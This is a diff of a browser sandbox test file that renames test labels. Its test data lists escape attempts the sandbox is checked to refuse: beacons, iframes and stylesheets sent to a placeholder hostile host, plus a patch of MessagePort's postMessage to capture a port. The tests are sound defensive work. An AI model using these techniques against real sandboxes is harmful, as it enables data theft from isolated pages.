@@ -37,7 +37,7 @@ const attempts = {
   'a beacon': `await refused(() => navigator.sendBeacon('${hostile}/beacon', 'code'))`,
   'a worker': "await refused(() => new Worker(URL.createObjectURL(new Blob(['1']))))",
   'a frame': `await refused(() => document.body.append(Object.assign(document.createElement('iframe'), { src: '${hostile}/frame' })))`,
-  'code in a frame of its own': "document.body.appendChild(document.createElement('iframe')).contentDocument.body",
+  'code in a nested frame': "document.body.appendChild(document.createElement('iframe')).contentDocument.body",
   'a frame of the own site':
     "await refused(() => document.body.append(Object.assign(document.createElement('iframe'), { src: window.name })))",
   'a sheet': `await refused(() => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${hostile}/sheet.css' })))`,
@@ -192,7 +192,7 @@ function send() {
   await expect(button, 'it still is the same frame').toBeVisible()
 })
 
-test('[PLUS-03] code cannot get hold of the port by putting functions of its own in place', async ({ page, play }) => {
+test('[PLUS-03] code cannot get hold of the port by replacing built-in functions', async ({ page, play }) => {
   await play()
   await write(
     page,
@@ -203,7 +203,7 @@ MessagePort.prototype.postMessage = function (...all) { seen.push(this); return 
 console.log('said')
 console.log('caught', seen.length)
 </script>
-<template><p>stands</p></template>`,
+<template><p>works</p></template>`,
   )
   await expect(page.getByRole('log')).toContainText('caught 0')
   await expect(resultOf(page)).toHaveAttribute('data-phase', 'standing')
